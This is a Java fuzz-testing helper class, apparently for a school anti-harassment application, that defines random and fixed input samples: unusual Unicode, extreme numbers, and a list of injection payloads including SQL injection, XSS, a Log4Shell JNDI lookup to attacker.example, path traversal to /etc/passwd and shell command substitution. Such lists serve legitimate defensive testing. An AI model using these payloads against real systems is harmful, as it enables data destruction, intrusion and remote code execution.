package fr.antiharcelement.infra.testing.fuzz;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;

/** The kinds of strings and numbers the fuzzer sends, valid or not, and two helpers to shape them. */
final class Samples {

    static final Arbitrary<String> PLAIN_TEXT = Arbitraries.strings().alpha().numeric().withChars(" éèàçôÉ'-")
            .ofMinLength(1).ofMaxLength(30).filter(text -> !text.isBlank());
    static final Arbitrary<String> ANY_UNICODE = Arbitraries.strings()
            .withCharRange('\u0001', '\uD7FF').withCharRange('\uE000', '\uFFFD').ofMinLength(1).ofMaxLength(40);
    static final Arbitrary<String> ODD_UNICODE = Arbitraries.of(
            "e\u0301\u0302\u0303\u0304\u0305\u0306", "Z\u0334\u0321\u0322\u034e\u0344a\u0338\u031b", "\u202Eevil\u202C.csv",
            "مدرسة الأمل", "בית ספר", "🏫👩‍🏫🧒🏽", "\u200B\u200C\u200D\u2060", "\uFEFFbom", "line\u2028break\u2029",
            "ｆｕｌｌｗｉｄｔｈ", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "\u0007\u001B[31mred", "Ǆemal Ⅻ ﬁ", "İstanbul ß");
    static final Arbitrary<String> INJECTIONS = Arbitraries.of(
            "' OR '1'='1", "'; DROP TABLE school; --", "\" OR 1=1 --", "1; SELECT pg_sleep(5)", "' UNION SELECT 1,2,3 --",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://attacker.example/a}", "{{7*7}}",
            "#{7*7}", "../../../../etc/passwd", "%00", "%s%n%x", "\\", "admin'--", "$(reboot)", "`id`", "*)(uid=*))(|(uid=*");
    static final Arbitrary<String> EXTREME_NUMBERS = Arbitraries.oneOf(
            Arbitraries.of("2147483648", "-2147483649", "9223372036854775808", "-9223372036854775809", "1e309", "-1e309",
                    "123456789012345678901234567890", "1.5", "-0", "0.0000001", "1E2", "-1", "4.9e-324"),
            Arbitraries.bigIntegers().between(BigInteger.TEN.pow(30).negate(), BigInteger.TEN.pow(30)).map(BigInteger::toString));

    private Samples() {
    }

    /** {@code text} repeated, cut at exactly {@code length} characters. */
    static String repeat(String text, int length) {
        StringBuilder repeated = new StringBuilder(length);
        while (repeated.length() < length) {
            repeated.append(text);
        }
        return repeated.substring(0, length);
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
